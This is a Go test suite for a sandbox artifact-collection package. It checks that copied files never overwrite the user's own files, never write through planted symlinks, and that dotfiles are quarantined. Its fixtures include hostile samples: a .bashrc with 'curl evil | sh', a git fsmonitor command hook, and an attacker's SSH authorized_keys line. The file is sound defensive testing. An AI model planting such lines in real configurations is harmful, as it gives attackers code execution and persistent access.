package artifacts

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"os"
	"path/filepath"
	"testing"
)

func opts(dest string) Options {
	return Options{Dest: dest, MaxFileBytes: 1 << 20, MaxTotalBytes: 1 << 20, MaxFiles: 100}
}

func reasonsOf(rep Report) map[string]Reason {
	m := map[string]Reason{}
	for _, r := range rep.Rejected {
		m[r.Path] = r.Reason
	}
	return m
}

func TestDeliveryNeverReplaces(t *testing.T) {
	src, dest, outside := t.TempDir(), t.TempDir(), t.TempDir()
	tr := tree{t, src}
	tr.file("README", []byte("from the sandbox\n"), 0o644)
	tr.file("sub/a.txt", []byte("through a link\n"), 0o644)
	tr.file("taken/b.txt", []byte("onto a file\n"), 0o644)
	tr.file("dir.txt", []byte("onto a directory\n"), 0o644)
	tr.file("new.txt", []byte("fresh\n"), 0o644)
	os.WriteFile(filepath.Join(dest, "README"), []byte("the user's own\n"), 0o600)
	os.Symlink(outside, filepath.Join(dest, "sub"))
	os.WriteFile(filepath.Join(dest, "taken"), []byte("a file\n"), 0o644)
	os.Mkdir(filepath.Join(dest, "dir.txt"), 0o755)

	rep, err := Collect(context.Background(), src, opts(dest))
	if err != nil {
		t.Fatal(err)
	}
	got := reasonsOf(rep)
	for _, p := range []string{"README", "sub/a.txt", "taken/b.txt", "dir.txt"} {
		if got[p] != ReasonExists {
			t.Errorf("%s: reason %q, want %q (all %+v)", p, got[p], ReasonExists, rep.Rejected)
		}
	}
	if len(rep.Artifacts) != 1 || rep.Artifacts[0].Path != "new.txt" {
		t.Errorf("accepted %+v", rep.Artifacts)
	}
	if b, _ := os.ReadFile(filepath.Join(dest, "README")); string(b) != "the user's own\n" {
		t.Errorf("the user's README was replaced: %q", b)
	}
	if ents, _ := os.ReadDir(outside); len(ents) != 0 {
		t.Errorf("wrote through the destination symlink: %v", ents)
	}
	if b, _ := os.ReadFile(filepath.Join(dest, "new.txt")); string(b) != "fresh\n" {
		t.Errorf("new.txt: %q", b)
	}
	leftovers(t, dest)
}

// leftovers fails on temporary files left in dir.
func leftovers(t *testing.T, dir string) {
	t.Helper()
	filepath.Walk(dir, func(p string, fi os.FileInfo, err error) error {
		if err == nil && len(fi.Name()) > 9 && fi.Name()[:9] == ".airlock-" {
			t.Errorf("temporary file left: %s", p)
		}
		return nil
	})
}

func TestDotNamesRejectedUnlessAllowed(t *testing.T) {
	src := t.TempDir()
	tr := tree{t, src}
	tr.file(".git/config", []byte("[core]\n\tfsmonitor = \"touch /tmp/pwned\"\n"), 0o644)
	tr.file(".bashrc", []byte("curl evil | sh\n"), 0o644)
	tr.file("sub/.ssh/authorized_keys", []byte("ssh-ed25519 AAAA attacker\n"), 0o644)
	tr.file("ok.txt", []byte("fine\n"), 0o644)

	dest, quar := t.TempDir(), t.TempDir()
	o := opts(dest)
	o.Quarantine = quar
	rep, err := Collect(context.Background(), src, o)
	if err != nil {
		t.Fatal(err)
	}
	got := reasonsOf(rep)
	for _, p := range []string{".git/config", ".bashrc", "sub/.ssh/authorized_keys"} {
		if got[p] != ReasonHiddenName {
			t.Errorf("%s: reason %q, want %q (all %+v)", p, got[p], ReasonHiddenName, rep.Rejected)
		}
	}
	if len(rep.Artifacts) != 1 {
		t.Errorf("accepted %+v", rep.Artifacts)
	}
	for _, p := range []string{".git", ".bashrc", "sub/.ssh"} {
		if _, err := os.Lstat(filepath.Join(dest, p)); err == nil {
			t.Errorf("%s reached the destination", p)
		}
	}
	// Quarantine keeps them, but never under a dot name either.
	filepath.Walk(quar, func(p string, fi os.FileInfo, err error) error {
		if p != quar && fi.Name()[0] == '.' {
			t.Errorf("quarantine holds a dot name: %s", p)
		}
		return nil
	})
	for _, r := range rep.Rejected {
		if r.Quarantined == "" {
			t.Errorf("%s not quarantined", r.Path)
		} else if _, err := os.Stat(filepath.Join(quar, r.Quarantined)); err != nil {
			t.Errorf("%s: %v", r.Path, err)
		}
	}

	dest = t.TempDir()
	o = opts(dest)
	o.AllowDotfiles = true
	rep, err = Collect(context.Background(), src, o)
	if err != nil {
		t.Fatal(err)
	}
	if len(rep.Artifacts) != 4 || len(rep.Rejected) != 0 {
		t.Errorf("with dotfiles allowed: accepted %+v rejected %+v", rep.Artifacts, rep.Rejected)
	}
	if _, err := os.Stat(filepath.Join(dest, ".git", "config")); err != nil {
		t.Errorf("allowed .git/config not delivered: %v", err)
	}
}

func TestQuarantineNeverReplaces(t *testing.T) {
	src, quar := t.TempDir(), t.TempDir()
	tree{t, src}.file("x.png", elfBytes(t), 0o644)
	os.WriteFile(filepath.Join(quar, "x.png"), []byte("kept from before\n"), 0o644)
	o := opts("")
	o.Quarantine = quar
	rep, err := Collect(context.Background(), src, o)
	if err != nil {
		t.Fatal(err)
	}
	if len(rep.Rejected) != 1 || rep.Rejected[0].Quarantined != "" {
		t.Errorf("rejected %+v", rep.Rejected)
	}
	if b, _ := os.ReadFile(filepath.Join(quar, "x.png")); string(b) != "kept from before\n" {
		t.Errorf("quarantine replaced a file: %q", b)
	}
	leftovers(t, quar)
}

func TestDestinationSymlinkOrOtherOwnerRefused(t *testing.T) {
	src := t.TempDir()
	tree{t, src}.file("authorized_keys", []byte("ssh-ed25519 AAAA attacker\n"), 0o644)
	shared, private := t.TempDir(), t.TempDir()
	art := filepath.Join(shared, "art")
	os.Symlink(private, art)
	for _, o := range []Options{opts(art), {Quarantine: art, MaxFileBytes: 1, MaxTotalBytes: 1, MaxFiles: 1}} {
		if _, err := Collect(context.Background(), src, o); err == nil {
			t.Errorf("%+v: delivered through a planted symlink", o)
		}
	}
	if ents, _ := os.ReadDir(private); len(ents) != 0 {
		t.Errorf("the symlink's target received %v", ents)
	}
	if os.Geteuid() != 0 {
		t.Skip("chown needs root; `make test` runs this as root")
	}
	theirs := filepath.Join(shared, "theirs")
	os.Mkdir(theirs, 0o777)
	os.Chown(theirs, 1234, 1234)
	if _, err := Collect(context.Background(), src, opts(theirs)); err == nil {
		t.Error("delivered into a directory uid 1234 owns")
	}
	if ents, _ := os.ReadDir(theirs); len(ents) != 0 {
		t.Errorf("uid 1234's directory received %v", ents)
	}
	// A sub-directory another user planted in a shared destination.
	tree{t, src}.file("sub/x.txt", []byte("x\n"), 0o644)
	dest := t.TempDir()
	os.Mkdir(filepath.Join(dest, "sub"), 0o777)
	os.Chown(filepath.Join(dest, "sub"), 1234, 1234)
	rep, err := Collect(context.Background(), src, opts(dest))
	if err != nil {
		t.Fatal(err)
	}
	if got := reasonsOf(rep)["sub/x.txt"]; got != ReasonExists {
		t.Errorf("sub/x.txt into uid 1234's directory: reason %q", got)
	}
}

func TestLargeFileHashMatchesDelivery(t *testing.T) {
	src, dest := t.TempDir(), t.TempDir()
	data := make([]byte, 3<<20+12345)
	for i := range data {
		data[i] = byte('a' + i%26)
	}
	data[len(data)-1] = '\n'
	tree{t, src}.file("big.txt", data, 0o644)
	rep, err := Collect(context.Background(), src, Options{Dest: dest, MaxFileBytes: 4 << 20, MaxTotalBytes: 4 << 20, MaxFiles: 1})
	if err != nil || len(rep.Artifacts) != 1 {
		t.Fatalf("%v %+v", err, rep)
	}
	got, _ := os.ReadFile(filepath.Join(dest, "big.txt"))
	sum := sha256.Sum256(data)
	if !bytes.Equal(got, data) || rep.Artifacts[0].SHA256 != hex.EncodeToString(sum[:]) || rep.Artifacts[0].Size != int64(len(data)) {
		t.Errorf("delivered %d bytes, report %+v", len(got), rep.Artifacts[0])
	}
}
